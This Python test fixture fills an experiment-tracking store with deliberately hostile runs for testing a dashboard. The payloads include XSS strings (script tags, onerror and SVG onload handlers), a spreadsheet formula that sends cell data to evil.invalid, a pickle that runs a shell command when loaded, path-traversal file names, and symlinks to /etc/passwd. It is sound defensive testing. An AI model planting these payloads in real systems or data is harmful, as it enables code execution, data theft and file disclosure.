"""A store in which everything is as bad as it can be, to open every page on."""

from __future__ import annotations

import json
import math
import os
import sqlite3
import time

from experiments.store.names import encode
from tests.conftest import START, Writer, png

SCRIPT = "<script>document.title='owned';alert(1)</script>"
IMAGE = "<img src=x onerror=\"document.title='owned'\"> ![x](http://evil.invalid/x.png) [y](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
UNICODE = "运行 🥋 \u202egnirts\u202c e\u0301 \u200b" + "长" * 40
MARKS = "$x^2$ :red[y] `z` **b** | a | ~~s~~ &lt;i&gt; {gap} %s \\n"


def hostile(writer: Writer) -> dict[str, str]:
    """Fills the store; what each run is -> its id."""
    runs = {
        "script": _script(writer),
        "numbers": _numbers(writer),
        "wide": writer.run(UNICODE, start=30, metrics={f"val/m{i:03d}": [1.0, 2.0 - i] for i in range(300)}),
        "restarted": _restarted(writer),
        "files": _files(writer),
        "formula": writer.run(FORMULA, start=60, params={encode("=1+1"): FORMULA, encode("@x"): "-1+1"}),
        "dead": _dead(writer),
        "deleted": writer.run(MARKS, start=80, metrics={"val/elbo": [1.0]}),
        "empty": writer.run("../../etc/passwd", experiment="../..", start=90, status="RUNNING"),
    }
    writer.client.delete_run(runs["deleted"])
    return runs


def hostile_findings(writer: Writer) -> None:
    """A claim, a study, a lexicon and rules whose every name is markup, and files of theirs that are torn."""
    import optuna
    import pyarrow as pa
    from pyarrow import parquet

    from dashboard.lexicon import NUMBERS
    from experiments.store.studies import study_url
    from mining.apriori import mine_itemsets
    from mining.frames import itemsets_table, rules_table
    from mining.rules import rules

    name = f"{SCRIPT} found"
    evidence = json.dumps({"claim": IMAGE, "statement": MARKS, "formula": IMAGE, "points": [SCRIPT], "article": SCRIPT})
    tags = {"taolu.kind": "claim", "taolu.claim": IMAGE, "taolu.verdict": SCRIPT}
    writer.file(writer.run(name, experiment="claims", tags=tags), "evidence.json", evidence)
    writer.store.folder.joinpath("claims.json").write_text(f"[{evidence}, 7, null]")
    optuna.logging.set_verbosity(optuna.logging.WARNING)
    study = optuna.create_study(study_name=IMAGE, storage=optuna.storages.RDBStorage(study_url(writer.store)))
    study.set_user_attr("taolu", {"design": {"verdict": SCRIPT}, "run_id": SCRIPT})
    choices = optuna.distributions.CategoricalDistribution([SCRIPT, MARKS])
    for value, word in ((math.inf, SCRIPT), (1e308, MARKS), (5e-324, SCRIPT)):
        attributes = {"error": IMAGE, "end": MARKS}
        trial = optuna.trial.create_trial(
            value=value, params={IMAGE: word}, distributions={IMAGE: choices}, user_attrs=attributes
        )
        study.add_trial(trial)
    words = writer.run(name, experiment="mine-lexicon", tags={"taolu.kind": "lexicon"}, params={"sources": IMAGE})
    for file in ("scores.npz", "merges.parquet", "sample.txt", "removed.csv"):
        writer.file(words, file, f"PK torn {IMAGE}")
    columns = {column: [math.nan, -1.0, math.inf] for column in NUMBERS} | {"is_known": [False, True, False]}
    columns["count"] = [0.0, 1.0, 5.0]
    table = pa.table({"word": [SCRIPT, IMAGE, FORMULA], **columns})
    parquet.write_table(table, writer.store.run_folder(words) / "words.parquet")
    run_id = writer.run(name, experiment="mine-apriori", tags={"taolu.kind": "rules"}, metrics={"baskets": [math.nan]})
    found = mine_itemsets([[SCRIPT, IMAGE, MARKS], [SCRIPT, FORMULA], [SCRIPT, UNICODE]], 0.1)
    writer.file(run_id, "note.txt", IMAGE)
    parquet.write_table(rules_table(rules(found, 0.1).sorted()), writer.store.run_folder(run_id) / "rules.parquet")
    parquet.write_table(itemsets_table(found), writer.store.run_folder(run_id) / "itemsets.parquet")


def _script(writer: Writer) -> str:
    """Markup in every place that takes text; a failure, an evaluation and a claim at once."""
    tags = {
        "mlflow.note.content": IMAGE + MARKS,
        "taolu.kind": SCRIPT,
        "taolu.objective": f"{SCRIPT} max",
        "taolu.fork": "{not json",
        "taolu.parent": "no such run",
        "other": SCRIPT,
    }
    run_id = writer.run(
        SCRIPT, experiment=IMAGE, status="FAILED", start=10, tags=tags,
        params={"p": IMAGE, "long": "x" * 1_000, "longer": "y" * 6_000, "lr": "0.1"},
        metrics={"lr": [0.1, 0.2], "验证/ppl": [3.0, 2.0], "val/elbo": [1.0]},
    )  # fmt: skip
    with sqlite3.connect(writer.store.folder / "mlflow.db") as connection:
        # longer than MLflow's client takes, as another program may have written it
        change = "UPDATE params SET value = ? WHERE run_uuid = ? AND key = 'longer'"
        connection.execute(change, ("y" * 6_500, run_id))
        connection.execute("UPDATE metrics SET key = ? WHERE run_uuid = ? AND key = 'lr'", (IMAGE, run_id))
        connection.execute("UPDATE latest_metrics SET key = ? WHERE run_uuid = ? AND key = 'lr'", (IMAGE, run_id))
    for name in ("traceback.txt", "command.txt", "console.log", "config.yaml", "sweep.yaml", "git.patch"):
        writer.file(run_id, name, f"{SCRIPT}\n{IMAGE}\n{MARKS}\n\x1b[31m{UNICODE}\x1b[0m\x00")
    writer.file(run_id, "evidence.json", json.dumps({"verdict": SCRIPT, "statement": IMAGE, "points": [SCRIPT]}))
    return run_id


def _numbers(writer: Writer) -> str:
    """Values that are no numbers, too large, or none at all."""
    nan, inf = math.nan, math.inf
    metrics = {
        "val/elbo": [nan, inf, -inf, 1e308, -1e308, 5e-324, 0.0],
        "train/loss": [nan] * 5,
        "train/kl": [inf, inf],
        "time/x": [-0.0],
    }
    return writer.run("NaN", start=20, metrics=metrics, params={"lr": "nan", "n": "1e999", "b": "None", "e": ""})


def _restarted(writer: Writer) -> str:
    """Steps that go back, stand twice, are negative and as large as can be."""
    from mlflow.entities import Metric

    run_id = writer.run("restarted", start=40, metrics={"train/loss": [3.0, 2.0, 1.0]})
    begin = START + 40_000
    steps = [1, 1, 2, 0, -5, 2**53, 10**9, 10**9]
    values = [Metric("train/loss", float(i), begin + 5_000 + i // 2, step) for i, step in enumerate(steps)]
    writer.client.log_batch(run_id, values)
    return run_id


def _files(writer: Writer) -> str:
    """Names that lead outside, links, and files that must not be opened, run or read whole."""
    run_id = writer.run("files", start=50, metrics={"val/elbo": [1.0, 2.0]})
    folder = writer.store.run_folder(run_id)
    contents: dict[str, str | bytes] = {
        "model.pkl": b"\x80\x04cos\nsystem\n(S'touch /tmp/owned'\ntR.",
        "checkpoints/last.ckpt": b"PK\x03\x04 no zip",
        "drawing.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{SCRIPT}</svg>",
        "page.html": f"<html>{SCRIPT}</html>",
        "..\\..\\etc\\passwd": "backslashes",
        "..%2F..%2Fetc%2Fpasswd": "escapes",
        f"{IMAGE.replace('/', '-')[:120]}.txt": SCRIPT,
        "latin\udce9.txt": "a name that is no UTF-8",
        "media/samples/00000000.png": png(0),
        "media/samples/00000001.png": b"\x89PNG\r\n\x1a\n torn",
        "media/samples/00000002.png": f"<svg onload='alert(1)'>{SCRIPT}</svg>",
        "media/a ![x](http:)/00000001.png": png(1),
        "media/texts/00000001.json": json.dumps([{"prompt": IMAGE, "text": SCRIPT + MARKS}]),
        "media/texts/00000002.json": "[{",
        "paths.npz": b"PK no arrays",
        "latent.npz": b"",
        "metrics.json": "{" * 1_000,
        "table.csv": f"a,b\n{FORMULA},{SCRIPT}\n",
    }
    for name, content in contents.items():
        writer.file(run_id, name, content)
    for link, target in (("passwd", "/etc/passwd"), ("up", "../../.."), ("loop", "loop"), ("console.log", "/dev/zero")):
        (folder / link).symlink_to(target)
    (folder / "media" / "out").symlink_to("/etc")
    with (folder / "sparse.bin").open("wb") as sparse:
        sparse.truncate(1_000_000_000)
    with (folder / "sparse.txt").open("wb") as sparse:
        sparse.truncate(1_000_000_000)
    return run_id


def _dead(writer: Writer) -> str:
    """A run that is RUNNING by a process which is gone, with its spool."""
    from experiments.store.heartbeat import owner

    gone = {**owner(), "pid": 2**22 + 1, "pid_start": 0.0, "time": time.time() - 1e6, "step": 7, "total_steps": 5}
    tags = {"taolu.heartbeat": json.dumps(gone)}
    run_id = writer.run("dead", status="RUNNING", start=70, metrics={"train/loss": [2.0, 1.0]}, tags=tags)
    writer.run("torn", status="RUNNING", start=71, tags={"taolu.heartbeat": "{"})
    spool = writer.store.folder / "spool"
    spool.mkdir(exist_ok=True)
    (spool / f"{run_id}.jsonl").write_text(json.dumps(["owner", {**gone, "run_id": run_id}]) + "\n")
    (spool / "torn.jsonl").write_text('["own')
    os.utime(spool / "torn.jsonl", (0, 0))
    return run_id
